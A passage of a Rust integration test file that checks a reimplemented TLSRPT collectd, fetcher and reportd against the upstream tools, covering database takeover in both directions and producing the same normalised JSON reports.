        doubled_failures,
        "failures after the takeover (left) versus twice the first collector's (right)",
    );
    let status = b.terminate(20);
    assert!(status.success(), "second: {status}: {}", b.log_text());
}

/// Migration: our collectd carries on with the database the upstream
/// collectd was writing during the day.
#[test]
fn ours_takes_over_the_upstream_database_mid_day() {
    take_over(&upstream("tlsrpt-collectd"), &collectd_bin());
}

/// Going back: the upstream collectd carries on with our database.
#[test]
fn upstream_takes_over_our_database_mid_day() {
    take_over(&collectd_bin(), &upstream("tlsrpt-collectd"));
}

// ---------------------------------------------------------------------------
// Reportd

/// The domain a report is about, from its report-id (ours:
/// `DAY_HASH_DOMAIN`, upstream's: `DAYT00:00:00Z_idxN_DOMAIN`).
fn report_domain(report: &Value) -> String {
    let id = report["report-id"].as_str().unwrap();
    id.splitn(3, '_').nth(2).unwrap().to_string()
}

/// A report with the documented differences taken out: the report-id, and
/// upstream's missing `policy-domain` of no-policy-found policies and its
/// empty ones (we write the report domain there).
fn comparable(report: &Value, domain: &str) -> Value {
    let mut report = report.clone();
    let map = report.as_object_mut().unwrap();
    map.remove("report-id");
    for policy in map["policies"].as_array_mut().unwrap() {
        let p = policy["policy"].as_object_mut().unwrap();
        match p.get("policy-domain") {
            None => {
                assert_eq!(p["policy-type"], "no-policy-found", "{p:?}");
                p.insert("policy-domain".into(), domain.into());
            }
            Some(Value::String(empty)) if empty.is_empty() => {
                p.insert("policy-domain".into(), domain.into());
            }
            Some(_) => {}
        }
    }
    canonical_report(&report)
}

/// Runs `program` (a reportd) with `fetcher` until `count` reports are in
/// its directory destination; returns them and the log.
fn collect_reports(program: &Path, fetcher: &str, count: usize) -> (Vec<Value>, String) {
    let mut reportd = support::reportd::Reportd::prepare(
        program,
        fetcher,
        &[
            ("min_wait_domainlist", "0"),
            ("max_wait_domainlist", "1"),
            ("min_wait_domaindetails", "0"),
            ("max_wait_domaindetails", "1"),
        ],
    );
    let map = reportd.write_file("record.map", ". REPLACE directory:OUTDIR\n");
    let mut config = std::fs::read_to_string(&reportd.config).unwrap();
    config.push_str(&format!("tlsrpt_record_map = {}\n", map.display()));
    std::fs::write(&reportd.config, config).unwrap();
    reportd.start();
    let out = reportd.out.clone();
    let complete = |out: &Path| -> Option<Vec<Value>> {
        let mut reports = Vec::new();
        for entry in std::fs::read_dir(out).ok()? {
            let path = entry.ok()?.path();
            if path.extension().is_some_and(|e| e == "json") {
                reports.push(serde_json::from_slice(&std::fs::read(path).ok()?).ok()?);
            }
        }
        (reports.len() >= count).then_some(reports)
    };
    reportd.wait_for(
        60,
        &format!("{count} reports from {}", program.display()),
        |_| complete(&out).is_some(),
    );
    let reports = complete(&out).unwrap();
    assert!(reportd.terminate().success(), "{}", reportd.log_text());
    assert_eq!(reports.len(), count, "{}", reportd.log_text());
    (reports, reportd.log_text())
}

/// The `count` reports of `program` with `fetcher`, one per domain.
pub(crate) fn raw_reports_by(
    program: &Path,
    fetcher: &str,
    count: usize,
) -> BTreeMap<String, Value> {
    let (reports, log) = collect_reports(program, fetcher, count);
    let by_domain: BTreeMap<String, Value> = reports
        .into_iter()
        .map(|r| (report_domain(&r), r))
        .collect();
    assert_eq!(by_domain.len(), count, "one report a domain: {log}");
    by_domain
}

/// Runs `program` (a reportd) with `fetcher` until `count` reports are in
/// its directory destination; returns them by domain, canonical, and the
/// log.
pub(crate) fn reports_by(
    program: &Path,
    fetcher: &str,
    count: usize,
) -> (BTreeMap<String, BTreeSet<String>>, String) {
    let (reports, log) = collect_reports(program, fetcher, count);
    let mut by_domain: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for report in &reports {
        let domain = report_domain(report);
        by_domain
            .entry(domain.clone())
            .or_default()
            .insert(comparable(report, &domain).to_string());
    }
    (by_domain, log)
}

/// The same datagrams through both whole pipelines (collectd, fetcher,
/// reportd) give the same reports, apart from the documented fixes; our
/// reportd also reads the upstream fetcher (which has no bulk answers) and
/// makes the same reports from it.
#[test]
fn our_reportd_makes_the_same_reports_as_the_upstream_pipeline() {
    let pair = collect_in_both(&all_datagrams());
    let conn = rusqlite::Connection::open_with_flags(
        pair.ours.yesterday(),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let count: usize = conn
        .query_row(
            "SELECT count(*) FROM (SELECT DISTINCT domain, tlsrptrecord FROM finalresults)",
            [],
            |r| r.get::<_, i64>(0),
        )
        .unwrap() as usize;
    assert!(count >= 20, "{count} reports expected");
    let upstream_fetcher = format!(
        "{} --storage={}",
        upstream("tlsrpt-fetcher").display(),
        storage(&pair.theirs.db)
    );
    let our_fetcher = format!(
        "{} --storage={}",
        fetcher_bin().display(),
        storage(&pair.ours.db)
    );
    let (theirs, _) = reports_by(&upstream("tlsrpt-reportd"), &upstream_fetcher, count);
    let (ours, log) = reports_by(&support::reportd::reportd_bin(), &our_fetcher, count);
    assert!(log.contains("in one bulk answer"), "{log}");
    assert_eq!(
        ours.keys().collect::<Vec<_>>(),
        theirs.keys().collect::<Vec<_>>()
    );
    for (domain, reports) in &theirs {
        let only_ours: Vec<&String> = ours[domain].difference(reports).collect();
        let only_theirs: Vec<&String> = reports.difference(&ours[domain]).collect();
        assert!(
            only_ours.is_empty() && only_theirs.is_empty(),
            "reports of {domain} differ:\nonly ours: {only_ours:#?}\nonly upstream's: {only_theirs:#?}"
        );
    }
    let (ours_v1, log) = reports_by(&support::reportd::reportd_bin(), &upstream_fetcher, count);
    assert!(log.contains("gave no bulk answer"), "{log}");
    assert!(!log.contains("in one bulk answer"), "{log}");
    assert_eq!(ours_v1, ours, "with the upstream fetcher");
}
